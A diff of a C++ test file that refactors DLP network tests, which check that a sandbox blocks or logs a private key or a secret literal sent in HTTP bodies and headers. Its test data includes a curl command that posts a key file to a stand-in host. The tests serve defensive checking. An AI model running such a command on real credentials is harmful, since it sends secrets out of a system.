@@ -18,22 +18,10 @@ using nlohmann::json;
 constexpr const char* kKey = "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAfakefakefake\n-----END RSA PRIVATE KEY-----\n";
 constexpr const char* kLiteral = "my-own-secret-value";
 
-class NetworkDlp : public ::testing::Test {
+class NetworkDlp : public LabSuite {
  protected:
-  static void SetUpTestSuite() {
-    try {
-      lab_ = new NetLab();
-    } catch (const std::exception& e) {
-      error_ = e.what();
-    }
-  }
-  static void TearDownTestSuite() {
-    delete lab_;
-    lab_ = nullptr;
-  }
   void SetUp() override {
-    ASSERT_NE(lab_, nullptr) << "the lab could not be built: " << error_;
-    lab_->clear_logs();
+    LabSuite::SetUp();
     write_file(dir_ / "key.txt", kKey);
     write_file(dir_ / "plain.txt", "just some ordinary data\n");
   }
@@ -48,34 +36,9 @@ class NetworkDlp : public ::testing::Test {
     for (const auto& b : lab_->binds()) flags.push_back(b);
     return lab_->sh(script, flags);
   }
-  std::vector<json> audit() const {
-    std::vector<json> v;
-    std::istringstream in(read_file(dir_ / "audit.jsonl"));
-    for (std::string l; std::getline(in, l);)
-      if (!l.empty()) v.push_back(json::parse(l));
-    return v;
-  }
-  // Bodies and headers the lab's servers received.
-  std::string arrived() const {
-    std::string all;
-    for (const auto& r : lab_->requests()) all += r.dump() + "\n";
-    return all;
-  }
   static bool contains(const std::string& s, const std::string& part) { return s.find(part) != std::string::npos; }
-  const json* line_for(const std::string& kind) const {
-    static json found;
-    for (const auto& e : audit())
-      if (e["kind"] == kind) return &(found = e);
-    return nullptr;
-  }
-
-  static NetLab* lab_;
-  static std::string error_;
-  TempDir dir_;
+  std::optional<json> line_for(const std::string& kind) const { return first_of(dir_ / "audit.jsonl", kind); }
 };
-
-NetLab* NetworkDlp::lab_ = nullptr;
-std::string NetworkDlp::error_;
 
 const std::string kPostKey =
     "curl -sS --noproxy '*' --max-time 5 -o /dev/null -w '%{http_code}\\n' --data-binary @/data/key.txt http://allowed.test/upload; echo rc=$?";
@@ -86,8 +49,8 @@ TEST_F(NetworkDlp, BlockKeepsAPrivateKeyInAPostBodyFromLeaving) {
   Outcome r = run("[dlp]\naction = \"block\"\n", kPostKey);
   EXPECT_FALSE(contains(r.out, "rc=0")) << r.out << r.err;
   EXPECT_FALSE(contains(arrived(), "PRIVATE KEY")) << arrived();
-  const json* l = line_for("http");
-  ASSERT_NE(l, nullptr) << read_file(dir_ / "audit.jsonl");
+  auto l = line_for("http");
+  ASSERT_TRUE(l.has_value()) << read_file(dir_ / "audit.jsonl");
   EXPECT_EQ((*l)["decision"], "deny");
   EXPECT_EQ((*l)["reason"], "dlp:private-key");
   // Negative control: an ordinary body under the same policy arrives.
@@ -108,8 +71,8 @@ TEST_F(NetworkDlp, LogModeLetsItThroughAndRecordsThePattern) {
   Outcome r = run("[dlp]\naction = \"log\"\n", kPostKey);
   EXPECT_TRUE(contains(r.out, "200")) << r.out << r.err;
   EXPECT_TRUE(contains(arrived(), "PRIVATE KEY")) << arrived();
-  const json* l = line_for("http");
-  ASSERT_NE(l, nullptr);
+  auto l = line_for("http");
+  ASSERT_TRUE(l.has_value());
   EXPECT_EQ((*l)["decision"], "allow");
   EXPECT_EQ((*l)["dlp"], json::array({"private-key"}));
 }
@@ -120,8 +83,8 @@ TEST_F(NetworkDlp, ALiteralSecretInAHeaderIsBlockedAndNeverLogged) {
   Outcome r = run(std::string("[dlp]\nliterals = [\"") + kLiteral + "\"]\n", script);
   EXPECT_FALSE(contains(r.out, "rc=0")) << r.out << r.err;
   EXPECT_FALSE(contains(arrived(), kLiteral)) << arrived();
-  const json* l = line_for("http");
-  ASSERT_NE(l, nullptr);
+  auto l = line_for("http");
+  ASSERT_TRUE(l.has_value());
   EXPECT_EQ((*l)["reason"], "dlp:literal-1");
   EXPECT_FALSE(contains(read_file(dir_ / "audit.jsonl"), kLiteral));
   // Negative control: another header value arrives.
@@ -137,8 +100,8 @@ TEST_F(NetworkDlp, ThroughTheExplicitProxyToo) {
       "http://allowed.test/upload; echo rc=$?";
   Outcome r = run("[dlp]\n", script);
   EXPECT_FALSE(contains(arrived(), "PRIVATE KEY")) << arrived() << r.out << r.err;
-  const json* l = line_for("http");
-  ASSERT_NE(l, nullptr);
+  auto l = line_for("http");
+  ASSERT_TRUE(l.has_value());
   EXPECT_EQ((*l)["reason"], "dlp:private-key");
 }
 
